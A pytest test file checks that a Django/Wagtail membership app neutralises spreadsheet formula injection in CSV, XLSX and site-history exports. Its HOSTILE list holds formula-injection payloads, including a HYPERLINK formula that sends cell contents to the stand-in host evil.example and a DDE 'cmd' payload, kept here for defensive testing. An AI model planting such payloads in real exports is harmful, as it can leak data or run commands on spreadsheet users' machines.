"""CSV exports never hand a spreadsheet program a formula typed by a member."""

import csv
import io

import pytest

from cohort.models import Membership
from cohort.spreadsheets import neutralise_cell
from tests.factories import member

pytestmark = pytest.mark.django_db

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_apostrophe(value):
    assert neutralise_cell(value) == "'" + value
    assert neutralise_cell("Sanne de Wit") == "Sanne de Wit"
    assert neutralise_cell(-5) == -5  # numbers stay numbers


def test_memberships_csv_neutralises_a_hostile_display_name(client, facilitator, edition1):
    for n, name in enumerate(HOSTILE):
        member(edition1, display_name=name, email=f"hostile{n}@example.org")
    client.force_login(facilitator)
    data = client.get("/admin/memberships/?export=csv").getvalue().decode()
    rows = list(csv.reader(io.StringIO(data)))
    names = {row[0] for row in rows[1:]}
    for name in HOSTILE:
        assert "'" + name in names
        assert name not in names


def test_memberships_xlsx_stores_them_as_text(client, facilitator, edition1):
    from openpyxl import load_workbook

    member(edition1, display_name=HOSTILE[0], email="hostile@example.org")
    client.force_login(facilitator)
    response = client.get("/admin/memberships/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))
                          if response.streaming else io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE[0]]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_wagtails_own_report_exports_are_neutralised_too(client, edition1, django_user_model):
    """Site history names memberships by their member's display name."""
    from wagtail.log_actions import log

    admin = django_user_model.objects.create_superuser(email="root@example.org", password="x")
    hostile = member(edition1, display_name=HOSTILE[0], email="h@example.org")
    log(Membership.objects.get(user=hostile), "wagtail.edit", user=admin)
    client.force_login(admin)
    data = client.get("/admin/reports/site-history/?export=csv").getvalue().decode()
    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    assert any(cell.startswith("'" + HOSTILE[0]) for cell in cells), cells
    assert not any(cell.startswith("=") for cell in cells)


def test_membership_export_headings_are_readable(client, facilitator, edition1):
    client.force_login(facilitator)
    header = client.get("/admin/memberships/?export=csv").getvalue().decode().splitlines()[0]
    assert Membership._meta.get_field("role").verbose_name.lower() in header.lower()
